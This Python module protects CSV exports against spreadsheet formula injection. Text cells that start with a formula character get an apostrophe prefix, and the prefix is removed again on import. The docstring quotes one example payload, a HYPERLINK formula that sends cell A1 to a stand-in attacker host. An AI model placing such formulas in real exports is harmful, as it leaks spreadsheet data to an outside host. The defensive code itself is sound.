"""Spreadsheet safety for CSV cells: one rule for every CSV quotes writes and reads.

A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some programs, a tab or carriage return) as a formula, so a quote
such as ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would become a
live link when a reporter opens an export. Following OWASP's advice, such a
text cell is written with a leading apostrophe, which spreadsheets show as
text and do not display.

The rule, exactly (``TRIGGER`` is one of ``= + - @ TAB CR``):

* **Written** (:func:`neutralise`): a text cell that starts with a TRIGGER,
  possibly after spaces (some programs trim them before evaluating), or with
  one or more apostrophes followed by that, gets one more leading ``'``.
  Numbers (a timeline's ``-0.42``) are values, not text, and are left alone.
* **Read back** (:func:`restore`, used by ``quotes import``): a cell that
  starts with ``'`` followed by (more apostrophes, spaces and) a TRIGGER loses
  that one ``'``.

So ``restore(neutralise(x)) == x`` for every text, including one that really
starts with an apostrophe ("'Tis the season" is not touched; "'=1" is written
"''=1" and read back as "'=1"), and a hand-made CSV whose cells start with a
plain apostrophe reads as it always did. ``--raw-cells`` writes (and reads)
cells exactly as stored, for programs rather than spreadsheets.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import Any

#: Characters a spreadsheet treats as the start of a formula (OWASP CSV injection).
TRIGGERS = "=+-@\t\r"
_NEEDS_GUARD = re.compile(r"'*[ ]*[=+\-@\t\r]")
_GUARDED = re.compile(r"''*[ ]*[=+\-@\t\r]")
#: UTF-8 byte-order mark, which some spreadsheet programs need to read UTF-8.
BOM = "\ufeff"


def neutralise(value: Any) -> Any:
    """``value`` as a spreadsheet-safe cell (text only; numbers and None unchanged)."""
    if isinstance(value, str) and _NEEDS_GUARD.match(value):
        return "'" + value
    return value


def restore(value: str) -> str:
    """Undo :func:`neutralise`: the exact text that was exported."""
    if _GUARDED.match(value):
        return value[1:]
    return value


def safe_row(row: Iterable[Any], *, raw: bool = False) -> list[Any]:
    """A list row for ``csv.writer``, neutralised unless ``raw``."""
    return list(row) if raw else [neutralise(cell) for cell in row]


def safe_dict(row: Mapping[str, Any], *, raw: bool = False) -> dict[str, Any]:
    """A dict row for ``csv.DictWriter``, neutralised unless ``raw``."""
    return dict(row) if raw else {key: neutralise(cell) for key, cell in row.items()}


class CsvStyle:
    """How a command writes CSV: neutralised cells (default) or raw, with or without a BOM."""

    __slots__ = ("bom", "raw")

    def __init__(self, *, raw: bool = False, bom: bool = False) -> None:
        self.raw = raw
        self.bom = bom

    def start(self) -> str:
        """What goes before the header row: the BOM when asked for."""
        return BOM if self.bom else ""

    def row(self, row: Iterable[Any]) -> list[Any]:
        return safe_row(row, raw=self.raw)

    def mapping(self, row: Mapping[str, Any]) -> dict[str, Any]:
        return safe_dict(row, raw=self.raw)


#: The default: neutralised cells, no BOM.
SPREADSHEET_SAFE = CsvStyle()
